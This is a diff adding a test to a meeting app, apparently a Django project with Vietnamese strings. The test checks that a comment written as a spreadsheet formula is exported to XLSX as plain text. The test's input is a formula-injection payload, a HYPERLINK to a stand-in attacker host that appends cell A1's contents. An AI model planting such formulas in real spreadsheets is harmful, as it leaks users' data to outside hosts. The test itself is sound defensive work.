@@ -59,6 +59,17 @@ def test_compiled_comments_export_cell_by_cell(client, meeting, organiser, atten
     assert "Cần làm rõ tiến độ" in client.get(reverse("live:comments", args=[meeting.pk])).content.decode()
 
 
+def test_a_comment_written_as_a_formula_is_exported_as_text(client, meeting, organiser, attendee) -> None:
+    planted = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
+    contributions.do_add_comment(attendee, meeting, text=planted)
+    client.force_login(organiser)
+    sheet = load_workbook(io.BytesIO(client.get(reverse("live:comments_xlsx", args=[meeting.pk])).content)).worksheets[
+        0
+    ]
+    cell = sheet.cell(row=3, column=7)
+    assert cell.value == planted and cell.data_type == "s"
+
+
 def test_incident_lifecycle_needs_a_resolution_and_a_handler(meeting, organiser, attendee, outsider) -> None:
     incident = contributions.do_report_incident(attendee, meeting, kind="audio", description="Micro số 3 không nghe")
     with pytest.raises(PermissionDenied):
